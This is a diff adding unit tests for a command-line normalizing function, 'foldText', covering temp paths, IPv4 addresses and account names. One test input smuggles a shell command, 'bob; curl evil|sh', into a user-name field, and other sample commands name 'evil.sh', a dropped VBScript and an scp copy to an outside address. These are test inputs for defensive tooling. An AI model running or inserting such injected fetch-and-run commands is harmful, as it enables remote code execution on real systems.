@@ -24,6 +24,36 @@ describe('foldText', () => {
     expect(foldText('cmd /c whoami')).not.toBe(foldText('cmd /c hostname'));
   });
 
+  it('folds a temp or home directory only when the path goes on below it: file names stay', () => {
+    expect(foldText('bash /tmp/backup.sh')).not.toBe(foldText('bash /tmp/evil.sh'));
+    expect(foldText('bash /tmp/job1/backup.sh')).toBe(foldText('bash /tmp/job2/backup.sh'));
+    expect(foldText('bash /tmp/job1/backup.sh')).not.toBe(foldText('bash /tmp/job1/evil.sh'));
+    expect(foldText('cscript C:\\Windows\\Temp\\inv.vbs')).not.toBe(
+      foldText('cscript C:\\Windows\\Temp\\drop.vbs'),
+    );
+    expect(foldText('/home/bob')).toBe('/home/bob');
+    expect(foldText('/var/tmp/a1/x /var/tmp/b2/x')).toBe('/var/tmp/<tmp>/x /var/tmp/<tmp>/x');
+  });
+
+  it('keeps IPv4 addresses whole: where the activity goes is not a counter', () => {
+    expect(foldText('ping -n 4 10.0.0.5')).toBe('ping -n <n> 10.0.0.5');
+    expect(foldText('scp out.tgz 10.0.0.5:/backup')).not.toBe(foldText('scp out.tgz 203.0.113.9:/backup'));
+    expect(foldText('curl http://10.0.0.5:8080/a')).toBe('curl http://10.0.0.5:<n>/a');
+    // Not an address: a version with four dots folds like any number.
+    expect(foldText('tool-1.2.3.4.5')).toBe('tool-<n>.<n>.<n>.<n>.<n>');
+  });
+
+  it('folds only whole name-shaped account names, never text posing as a user name', () => {
+    expect(foldText('run bobby bob --for=bob', ['bob'])).toBe('run bobby <user> --for=<user>');
+    // A "user name" holding shell syntax or spaces is not a name: nothing of it folds.
+    const hostileUser = 'bob; curl evil|sh';
+    expect(foldText(`backup.exe --owner ${hostileUser}`, [hostileUser])).toBe(
+      'backup.exe --owner bob; curl evil|sh',
+    );
+    expect(foldText('ls id', ['id', 'ls'])).toBe('ls id');
+    expect(foldText('net use alice', ['CORP\\Alice', 'carol@corp.example'])).toBe('net use <user>');
+  });
+
   it('is linear on hostile input (long hex runs, long paths, no separators)', () => {
     const inputs = [
       `${'a1'.repeat(32_000)}g`,
